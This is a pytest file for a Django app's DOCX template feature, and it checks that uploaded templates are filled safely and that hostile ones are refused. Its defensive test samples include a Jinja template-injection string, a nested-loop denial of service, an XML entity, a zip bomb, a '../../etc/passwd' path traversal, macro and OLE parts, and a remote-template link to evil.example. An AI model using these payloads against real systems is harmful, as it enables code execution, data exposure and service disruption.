"""A unit's own DOCX template: filled in, and hostile ones refused with nothing left behind."""

from __future__ import annotations

import re
import zipfile
from io import BytesIO
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from docx import Document

from sotay.papers import own_template
from sotay.papers.layout import Layout
from sotay.papers.models import UnitKind
from sotay.papers.own_template import BadTemplate, fill
from sotay.papers.tests.samples import minutes, resolution
from sotay.papers.tests.test_papers import compose, issue

GOOD = (
    "{{ issuer }}",
    "{{ number }}",
    "{{ title }} {{ abstract }}",
    "{% for part in sections %}{{ part.title }}: {{ part.lines | join('; ') }}{% endfor %}",
    "{{ signs | join(' ') }} {{ signer }}",
)


def template(*texts: str, header: str = "", title: str = "") -> bytes:
    document, made = Document(), BytesIO()
    for text in texts:
        document.add_paragraph(text)
    if header:
        document.sections[0].header.paragraphs[0].text = header
    document.core_properties.title = title
    document.save(made)
    return made.getvalue()


def with_part(content: bytes, name: str, data: bytes) -> bytes:
    made = BytesIO()
    with zipfile.ZipFile(BytesIO(content)) as old, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.namelist():
            if entry != name:
                new.writestr(entry, old.read(entry))
        new.writestr(name, data)
    return made.getvalue()


def replaced(content: bytes, name: str, old: str, new: str) -> bytes:
    with zipfile.ZipFile(BytesIO(content)) as packed:
        text = packed.read(name).decode()
    assert old in text
    return with_part(content, name, text.replace(old, new).encode())


def test_a_paper_is_laid_into_a_template() -> None:
    made = Document(BytesIO(fill(template(*GOOD), resolution(), Layout())))
    text = "\n".join(line.text for line in made.paragraphs)
    assert resolution().header.issuer in text
    assert "Số …-NQ/CB" in text
    assert "- Quyết toán đảng phí quý IV." in text
    assert "T/M CHI BỘ BÍ THƯ Nguyễn Thị Thu" in text


def test_words_of_a_paper_are_never_read_as_fields() -> None:
    from dataclasses import replace

    paper = replace(resolution(), abstract="{{ 7*7 }} <w:p/> & {% for x in y %}")
    made = Document(BytesIO(fill(template("{{ abstract }}"), paper, Layout())))
    assert made.paragraphs[0].text == "{{ 7*7 }} <w:p/> & {% for x in y %}"


CODE = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
RELS = "word/_rels/document.xml.rels"
OUTSIDE = (
    '<Relationship Id="rIdX" Target="http://evil.example/t.dotm" TargetMode="External" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
    "</Relationships>"
)

HOSTILE = {
    "code in the text": (template(CODE), "not_safe"),
    "code in the header": (template("x", header=CODE), "not_safe"),
    "code in the title of the file": (template("x", title=CODE), "not_safe"),
    "a method of the environment": (template("{{ self._TemplateReference__context }}"), None),
    "a change to a list": (template("{{ text.append('x') }}"), "not_safe"),
    "a field there is none of": (template("{{ password }}"), "unknown"),
    "a broken field": (template("{{ title"), "broken"),
    "an endless loop": (
        template("{% for a in 'x'*99999 %}{% for b in 'x'*99999 %}{{ b }}{% endfor %}{% endfor %}"),
        None,
    ),
    "a huge text": (template("{{ 'x' * 99999999999 }}"), None),
    "a remote template": (replaced(template("x"), RELS, "</Relationships>", OUTSIDE), "outside"),
    "a macro": (with_part(template("x"), "word/vbaProject.bin", b"macro"), "macros"),
    "an object": (with_part(template("x"), "word/embeddings/oleObject1.bin", b"object"), "macros"),
    "an entity": (
        replaced(
            template("x"), "word/document.xml", "<w:document", '<!DOCTYPE a [<!ENTITY b "c">]><w:document'
        ),
        "not_safe",
    ),
    "a bomb": (
        with_part(template("x"), "word/bomb.xml", b"0" * (own_template.MOST_UNPACKED + 1)),
        "too_large",
    ),
    "a path out of the archive": (with_part(template("x"), "../../etc/passwd", b"x"), "not_docx"),
    "a picture by another name": (b"\x89PNG\r\n", "not_docx"),
    "a workbook": (with_part(b"PK\x05\x06" + b"\0" * 18, "xl/workbook.xml", b"x"), "not_docx"),
    "a file far too large": (b"PK\x03\x04" + b"0" * own_template.MOST_BYTES, "too_large"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_template_is_refused(name) -> None:
    content, why = HOSTILE[name]
    with pytest.raises(BadTemplate) as refused:
        fill(content, resolution(), Layout())
    assert why is None or refused.value.why == why


def post(person, unit, content: bytes, kind: str = "BB"):
    door = reverse("papers:template", args=[unit.pk, kind])
    return person.post(door, {"template": SimpleUploadedFile("mau.docx", content)})


def test_a_unit_keeps_its_template_and_papers_come_in_it(house, thu, lam, an) -> None:
    assert post(thu, house.cell, template(*GOOD)).status_code == 302
    paper = issue(compose(house.cell, thu), thu, lam)
    made = an.get(reverse("papers:own_docx", args=[paper.pk]))
    assert paper.number_text in "\n".join(line.text for line in Document(BytesIO(made.content)).paragraphs)
    drop = reverse("papers:template", args=[house.cell.pk, "BB"])
    assert thu.post(drop, {"drop": "1"}).status_code == 302
    assert an.get(reverse("papers:own_docx", args=[paper.pk])).status_code == 404


def share(person, unit, **data):
    return person.post(reverse("papers:template", args=[unit.pk, "BB"]), data)


def test_a_unit_above_offers_its_template_and_a_cell_goes_by_it(house, thu, lam, an, binh, dung) -> None:
    paper = issue(compose(house.cell, thu), thu, lam)
    own, page = (
        reverse("papers:own_docx", args=[paper.pk]),
        reverse("papers:kind", args=[house.cell.pk, "BB"]),
    )
    assert post(binh, house.ward, template("{{ issuer }} THEO MẪU PHƯỜNG")).status_code == 302
    assert "mau.docx" not in thu.get(page).content.decode(), "kept by the ward for itself"
    assert share(thu, house.cell, use=house.ward.pk).status_code == 409
    assert share(binh, house.ward, offer="yes").status_code == 302
    assert "mau.docx" in thu.get(page).content.decode()
    assert an.get(own).status_code == 404, "nobody chose it yet"
    assert share(thu, house.cell, use=house.ward.pk).status_code == 302
    words = "\n".join(line.text for line in Document(BytesIO(an.get(own).content)).paragraphs)
    assert words.endswith("THEO MẪU PHƯỜNG")
    assert "Văn bản loại này theo mẫu mau.docx" in thu.get(page).content.decode()
    assert share(dung, house.far_cell, use=house.ward.pk).status_code == 409, "the ward does not lie above it"
    assert share(binh, house.ward, offer="no").status_code == 302
    assert an.get(own).status_code == 404
    assert "không còn cho dùng mẫu đã chọn" in thu.get(page).content.decode()


def test_a_template_of_its_own_comes_first(house, thu, lam, an, binh) -> None:
    paper = issue(compose(house.cell, thu), thu, lam)
    post(binh, house.ward, template("MẪU PHƯỜNG"))
    share(binh, house.ward, offer="yes")
    share(thu, house.cell, use=house.ward.pk)
    assert post(thu, house.cell, template("MẪU CHI BỘ")).status_code == 302
    made = an.get(reverse("papers:own_docx", args=[paper.pk]))
    assert [line.text for line in Document(BytesIO(made.content)).paragraphs] == ["MẪU CHI BỘ"]
    assert share(thu, house.cell, use=house.ward.pk).status_code == 409
    assert share(thu, house.cell, drop="1").status_code == 302
    assert an.get(reverse("papers:own_docx", args=[paper.pk])).status_code == 404


def test_a_cell_offers_nothing_and_nobody_offers_what_is_not_there(house, thu, binh) -> None:
    assert share(binh, house.ward, offer="yes").status_code == 409
    post(thu, house.cell, template("MẪU CHI BỘ"))
    assert share(thu, house.cell, offer="yes").status_code == 409
    assert share(thu, house.cell, use="nothing").status_code == 409


def test_a_refused_template_leaves_no_file(house, thu, settings) -> None:
    before = {file for file in Path(settings.MEDIA_ROOT).rglob("*") if file.is_file()}
    answer = post(thu, house.cell, template(CODE))
    assert answer.status_code == 422
    assert not UnitKind.objects.exclude(template="").exists()
    assert {file for file in Path(settings.MEDIA_ROOT).rglob("*") if file.is_file()} == before


def test_every_field_that_is_listed_is_there_and_no_other() -> None:
    assert set(own_template.FIELDS) == set(own_template.values_of(minutes(), Layout()))
    assert all(re.fullmatch("[a-z_]+", name) for name in own_template.FIELDS)
